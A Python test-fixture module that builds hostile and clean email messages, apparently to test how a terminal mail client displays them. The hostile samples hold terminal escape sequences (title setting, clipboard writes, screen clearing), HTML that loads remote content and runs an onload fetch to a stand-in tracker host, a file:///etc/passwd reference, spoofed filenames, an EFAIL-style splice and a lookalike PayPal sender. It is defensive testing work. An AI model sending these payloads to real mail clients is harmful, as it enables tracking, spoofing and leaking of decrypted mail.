"""Mail that tries to steer the terminal, to load something, or to shift the frame; and clean mail that is shown by the same means."""

from __future__ import annotations

import base64
import quopri

HOSTILE_HOST = "tracker.hostile.example"
"""Every reference to something remote names a host below this one."""

SEQUENCES = (
    "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]52;c;b3duZWQ=\x07",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x1b]9;owned\x07", "\x1b[2J", "\x1b[31;1H", "\x1b[?1049l",
    "\x1b[?1000h", "\x1b[5n", "\x1b[c", "\x1b[6n", "\x1b[>0q", "\x1b[21t", "\x1bP1$r0m\x1b\\", "\x1b_apc\x1b\\",
    "\x1b^pm\x1b\\", "\x1bc", "\x1b#8", "\x1b(0", "\x1bk owned\x1b\\", "\x9b2J", "\x9d0;owned\x9c", "\x90dcs\x9c",
    "\x0e", "\x0f", "\x08\x08\x08", "\x07", "\x0c", "\x0b", "\x7f", "\x85", "\r", "\x1b]unterminated", "\x00", "\x05",
    "\x1bZ", "\x1b[", "\x1b",
)  # fmt: skip
_ALL = " spoken ".join(SEQUENCES)
_WIDE = (
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 ❤️ 1️⃣ "
    + "a"
    + "\u0301" * 60
    + " 宽 ｱ ⚠️ \u202etxt.exe\u202c \u2066iso\u2069 \u200b\u00ad\ufeff \U000e0041"
)

_HTML = f"""<html><head><title>x</title>
<link rel="stylesheet" href="https://css.{HOSTILE_HOST}/a.css"><link rel="dns-prefetch" href="//dns.{HOSTILE_HOST}">
<link rel="preload" as="image" href="https://preload.{HOSTILE_HOST}/i"><meta http-equiv="refresh"
content="0;url=https://meta.{HOSTILE_HOST}/">
<base href="https://base.{HOSTILE_HOST}/"><style>@import url(https://import.{HOSTILE_HOST}/i.css);
body{{background:url(https://bg.{HOSTILE_HOST}/b)}}
@font-face{{font-family:x;src:url(https://font.{HOSTILE_HOST}/f)}}</style><script src="https://js.{HOSTILE_HOST}/x.js">
</script></head>
<body background="https://body.{HOSTILE_HOST}/b.png" onload="fetch('https://onload.{HOSTILE_HOST}')">
<p>spoken text</p><img src="https://img.{HOSTILE_HOST}/1.png" alt="spoken &#27;]0;owned&#7; alt"><img
src="file:///etc/passwd"><img srcset="https://srcset.{HOSTILE_HOST}/2 2x">
<img src="cid:nothing"><picture><source srcset="https://source.{HOSTILE_HOST}/3"></picture><iframe
src="https://frame.{HOSTILE_HOST}/"></iframe>
<object data="https://object.{HOSTILE_HOST}/"></object><embed src="https://embed.{HOSTILE_HOST}/"><video
src="https://video.{HOSTILE_HOST}/" poster="https://poster.{HOSTILE_HOST}/"></video>
<svg><image href="https://svg.{HOSTILE_HOST}/"/><use href="https://use.{HOSTILE_HOST}/#a"/></svg><form
action="https://form.{HOSTILE_HOST}/"><input type="image" src="https://input.{HOSTILE_HOST}/"></form>
<table background="https://table.{HOSTILE_HOST}/"><tr><td
style="background-image:url('https://style.{HOSTILE_HOST}/')">cell &#155;2J &#x1b;[2J</td></tr></table>
<a href="https://link.{HOSTILE_HOST}/" ping="https://ping.{HOSTILE_HOST}/">https://bank.example/</a> <a
href="javascript:alert(1)">js</a> <a href="data:text/html,x">data</a>
<a href="https://user@evil.{HOSTILE_HOST}/">user</a><div style="display:none">hidden spoken</div><!-- \x1b[2J -->
</body></html>"""


def _mail(subject: str, content_type: str, body: bytes, *fields: str, sender: str = "Ann <ann@a.example>") -> bytes:
    head = [f"From: {sender}", f"Subject: {subject}", *fields, "MIME-Version: 1.0", f"Content-Type: {content_type}"]
    return "\r\n".join(head).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def _word(text: str) -> str:
    return f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?="


_LEAKS = (
    f"List-Unsubscribe: <https://unsubscribe.{HOSTILE_HOST}/u>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click",
    f"Disposition-Notification-To: <mdn@{HOSTILE_HOST}>\r\nReturn-Receipt-To: <rr@{HOSTILE_HOST}>",
    f"X-Face: x\r\nFace: x\r\nX-Image-URL: https://face.{HOSTILE_HOST}/",
    f"Received: from a.{HOSTILE_HOST} ([203.0.113.5]) by b.{HOSTILE_HOST} with ESMTP; 3 Nov 2026 12:00:00 +0000",
    f"Autocrypt: addr=a@{HOSTILE_HOST}; keydata=x\r\nDKIM-Signature: v=1; d={HOSTILE_HOST}; s=x; h=from; b=x",
)

HOSTILE_MAIL: list[bytes] = [
    _mail("plain spoken", "text/plain; charset=utf-8", _ALL.encode("utf-8", "surrogateescape")),
    _mail("latin spoken", "text/plain; charset=latin-1", _ALL.encode("latin-1", "replace")),
    _mail(
        "qp spoken",
        "text/plain; charset=unicode_escape",
        quopri.encodestring(_ALL.encode("latin-1", "replace")),
        "Content-Transfer-Encoding: quoted-printable",
    ),
    _mail("utf-7 spoken", "text/plain; charset=utf-7", b"+ABs-]0;owned+AAc- spoken"),
    _mail(_word(_ALL[:120]), "text/plain", b"subject spoken", sender=f"{_word(_ALL[:100])} <a@b.example>"),
    _mail("raw \x1b]0;owned\x07 \x9b2J", "text/plain", b"header spoken", "X-Odd: \x1b[2J \x1b]52;c;b3duZWQ=\x07"),
    _mail("html spoken", "text/html; charset=utf-8", _HTML.encode(), *_LEAKS),
    _mail(
        "html controls spoken",
        "text/html; charset=utf-8",
        f"<p>{_ALL}</p><b title='{_ALL}'>{_WIDE}</b>".encode("utf-8", "replace"),
    ),
    _mail("widths spoken", "text/plain; charset=utf-8", (_WIDE + "\r\n").encode() * 40),
    _mail(
        "parts spoken",
        "multipart/mixed; boundary=b",
        b"--b\r\nContent-Type: text/plain\r\n\r\nspoken\r\n--b\r\n"
        b'Content-Type: application/octet-stream; name="\x1b]0;owned\x07.txt"\r\n'
        b"Content-Disposition: attachment; filename*=utf-8''%1b%5d0%3bowned%07%e2%80%aetxt.exe\r\n\r\nx\r\n"
        b"--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: \x1b[2J <x@y.example>\r\nSubject: \x1b]0;owned\x07\r\n\r\ninner \x1b[2J\r\n"
        b'--b\r\nContent-Type: message/external-body; access-type=URL; URL="https://external.'
        + HOSTILE_HOST.encode()
        + b'/x"\r\n\r\n'
        b"Content-Type: text/plain\r\n\r\n\r\n--b--\r\n",
    ),
    _mail(
        "efail spoken",
        "multipart/mixed; boundary=b",
        f'--b\r\nContent-Type: text/html\r\n\r\n<img src="https://efail.{HOSTILE_HOST}/'.encode()
        + b"\r\n--b\r\nContent-Type: multipart/encrypted; protocol=application/pgp-encrypted; boundary=c\r\n\r\n--c\r\nContent-Type:"
        b" application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\nContent-Type: application/octet-stream\r\n\r\n"
        b"-----BEGIN PGP MESSAGE-----\r\n"
        b'--c--\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n',
    ),
]

CLEAN_MAIL: list[bytes] = [
    _mail(
        "clean",
        "text/plain; charset=utf-8",
        (
            "Hello 👩‍👩‍👧‍👦 宽 ⚠️ दीपघर की,\r\n> quoted\r\n>> twice\r\n>>> more\r\n"
            "https://a.example/ and ann@a.example\r\n*bold*\r\n-- \r\nAnn\r\n"
        ).encode()
        + b"line\r\n" * 60,
        "List-Unsubscribe: <https://a.example/u>",
    ),
    _mail(
        "clean html",
        "text/html; charset=utf-8",
        b"<h1>Title</h1><p>text <b>bold</b> <i>italic</i> <code>code</code> <a href='https://a.example/'>link</a></p><blockquote>quoted</blockquote>"
        b"<table border=1><tr><th>a</th></tr><tr><td>1</td></tr></table><img src='https://i.example/x.png' alt='alt'>",
    ),
    _mail(
        "clean parts",
        "multipart/mixed; boundary=b",
        b"--b\r\nContent-Type: text/plain\r\n\r\ntext\r\n--b\r\nContent-Type: application/octet-stream; name=a.txt\r\n"
        b"Content-Disposition: attachment\r\n\r\nx\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n"
        b"From: b@b.example\r\nSubject: inner\r\n\r\ninner\r\n--b--\r\n",
    ),
    _mail("clean, answers elsewhere", "text/plain", b"text", "Reply-To: x@y.example", sender="PayPal <a@paypa1.com>"),
    _mail("clean, signed", "multipart/signed; protocol=application/pgp-signature; boundary=b",
          b"--b\r\n\r\ntext\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--b--\r\n"),
]  # fmt: skip
